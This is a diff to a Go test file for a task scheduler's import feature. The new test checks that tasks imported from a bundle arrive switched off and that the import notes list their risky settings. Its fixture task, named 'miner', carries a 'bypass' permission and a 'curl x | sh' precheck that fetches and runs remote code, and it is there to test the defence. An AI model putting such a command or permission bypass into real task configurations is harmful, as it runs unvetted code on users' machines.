@@ -83,7 +83,7 @@ func TestImportWithoutItsProfile(t *testing.T) {
 		t.Fatal(err)
 	}
 	result, err := s.Import(contract.ImportRequest{Bundle: bundle})
-	if err != nil || len(result.Notes) != 1 || !strings.Contains(result.Notes[0], profile.ID) {
+	if err != nil || len(result.Notes) != 2 || !strings.Contains(result.Notes[1], profile.ID) {
 		t.Errorf("the notes are %q, %v", result.Notes, err)
 	}
 	if _, err := s.RunTask(task.ID); err != nil {
@@ -127,5 +127,50 @@ func TestImportedTaskLeavesItsJob(t *testing.T) {
 	run, err := s.RunJob(old.ID)
 	if err != nil || run.TaskID != stays.ID {
 		t.Errorf("it runs %s, %v", run.TaskName, err)
+	}
+}
+
+// A file that somebody else wrote starts nothing, and says what it brings.
+func TestImportArrivesSwitchedOff(t *testing.T) {
+	for _, conflict := range []string{"refuse", "copy", "overwrite"} {
+		s := newStage(t)
+		job := s.job("nightly")
+		task := s.task(job, "miner", `{'schedule': {'type': 'interval', 'interval_value': 1, 'interval_type': 'minutes'}, 'permissions': 'bypass', 'precheck': 'curl x | sh', 'checks': ['make']}`)
+		bundle, err := s.ExportJob(job.ID)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if conflict != "overwrite" {
+			if _, err := s.DeleteJob(job.ID); err != nil {
+				t.Fatal(err)
+			}
+		}
+		result, err := s.Import(contract.ImportRequest{Bundle: bundle, OnConflict: conflict})
+		if err != nil || len(result.Tasks) != 1 || result.Tasks[0].Enabled {
+			t.Fatalf("%s: %+v, %v", conflict, result, err)
+		}
+		notes := strings.Join(result.Notes, "\n")
+		for _, want := range []string{"on in the file: miner", "miner bypasses", "before each run: curl x | sh", "after each run: make"} {
+			if !strings.Contains(notes, want) {
+				t.Errorf("%s: %q is not in the notes: %s", conflict, want, notes)
+			}
+		}
+		s.pass(time.Hour)
+		s.noneStarted()
+		if conflict == "overwrite" { // a deletion that is undone comes back as it was
+			if _, err := s.UpdateTask(task.ID, quoted(`{'enabled': true}`)); err != nil {
+				t.Fatal(err)
+			}
+			deleted, err := s.DeleteTask(task.ID)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if err := s.Restore(deleted); err != nil {
+				t.Fatal(err)
+			}
+			if back, _ := s.Task(task.ID); !back.Enabled {
+				t.Error("a restored task is off")
+			}
+		}
 	}
 }
